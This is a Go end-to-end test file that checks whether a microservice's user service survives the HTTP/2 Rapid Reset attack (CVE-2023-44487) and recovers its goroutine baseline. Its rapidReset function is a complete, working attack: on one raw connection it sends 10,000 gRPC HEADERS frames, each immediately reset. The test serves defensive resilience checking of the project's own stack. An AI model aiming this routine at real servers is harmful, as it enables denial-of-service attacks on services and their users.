package e2e

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/gomicro-stack/gomicro-stack/internal/stack"
)

// TestHTTP2RapidReset: one raw HTTP/2 connection to the user service opens and at once resets
// 10,000 gRPC streams (CVE-2023-44487, GO-2023-2153; grpc v1.26 had no defence). The service
// keeps answering everyone else, and its goroutines come back to their baseline.
func TestHTTP2RapidReset(t *testing.T) {
	s := ownStack(t, stack.Config{})
	token := newClient(t, s.GatewayURL).signup("rapidreset_e2e")
	address := addressIn(t, s, "go.micro.api.user")
	userMetrics := s.MetricsURLs[0] // the user instances' come first
	// The baseline is taken under the same load without the attack: serving hellos opens the
	// greeter's pooled connections to the user service, each with goroutines of its own.
	newLoad(s.GatewayURL, token).run(50, 2*time.Second, 0, nil)
	baseline := goroutines(t, userMetrics)

	hellos := newLoad(s.GatewayURL, token)
	attacked := make(chan string, 1)
	go func() { attacked <- rapidReset(address, 10_000) }()
	peak := make(chan int, 1)
	go func() {
		most := 0
		for deadline := time.Now().Add(4 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
			if n, err := readGoroutines(userMetrics); err == nil {
				most = max(most, n)
			}
		}
		peak <- most
	}()
	hellos.run(50, 4*time.Second, 0, nil)
	outcome := <-attacked
	t.Logf("attack on %s: %s; the user service peaked at %d goroutines", address, outcome, <-peak)
	if _, failed, degraded, _, _ := hellos.report(t, "hellos while 10,000 streams are opened and reset"); failed != 0 || degraded != 0 {
		t.Fatalf("%d failed and %d degraded hellos during the attack", failed, degraded)
	}
	var last int
	if err := stack.Eventually(15*time.Second, 100*time.Millisecond, func() error {
		last = goroutines(t, userMetrics)
		if last > baseline+20 {
			return fmt.Errorf("%d goroutines, %d before the attack", last, baseline)
		}
		return nil
	}); err != nil {
		t.Fatalf("the user service's goroutines did not come back: %v", err)
	}
	t.Logf("user service goroutines: %d before, %d after", baseline, last)
}

// rapidReset opens streams on one connection, each a gRPC call's HEADERS at once followed by
// RST_STREAM, and says how far it got: a server may end the connection early, which is a
// defence, not a failure.
func rapidReset(address string, streams int) string {
	conn, err := net.DialTimeout("tcp", address, 5*time.Second)
	if err != nil {
		return "dial: " + err.Error()
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(30 * time.Second))
	w := bufio.NewWriter(conn)
	w.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(w, conn)
	framer.WriteSettings()
	// Read what the server sends (settings, window updates, GOAWAY) so that it never blocks on
	// us; note a GOAWAY.
	goaway := make(chan string, 1)
	go func() {
		for {
			f, err := framer.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					framer.WriteSettingsAck() // the writer is flushed with the next batch
				}
			case *http2.GoAwayFrame:
				select {
				case goaway <- fmt.Sprintf("GOAWAY %s after stream %d", f.ErrCode, f.LastStreamID):
				default:
				}
			}
		}
	}()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, h := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":authority", address},
		{":path", "/user.User/GetUserInfo"}, {"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	sent := 0
	for i := 0; i < streams; i++ {
		id := uint32(2*i + 1)
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
			break
		}
		if err := framer.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			break
		}
		sent++
		if i%100 == 99 {
			if err := w.Flush(); err != nil {
				break
			}
		}
	}
	w.Flush()
	select {
	case g := <-goaway:
		return fmt.Sprintf("%d streams opened and reset; the server sent %s", sent, g)
	case <-time.After(time.Second):
		return fmt.Sprintf("%d streams opened and reset; the connection stayed open", sent)
	}
}

// goroutines reads go_goroutines from a /metrics endpoint.
func goroutines(t *testing.T, metricsURL string) int {
	t.Helper()
	n, err := readGoroutines(metricsURL)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func readGoroutines(metricsURL string) (int, error) {
	rsp, err := http.Get(metricsURL)
	if err != nil {
		return 0, err
	}
	defer rsp.Body.Close()
	body, _ := io.ReadAll(rsp.Body)
	for _, line := range strings.Split(string(body), "\n") {
		if value, ok := strings.CutPrefix(line, "go_goroutines "); ok {
			if n, err := strconv.ParseFloat(value, 64); err == nil {
				return int(n), nil
			}
		}
	}
	return 0, errors.New("no go_goroutines in " + metricsURL)
}
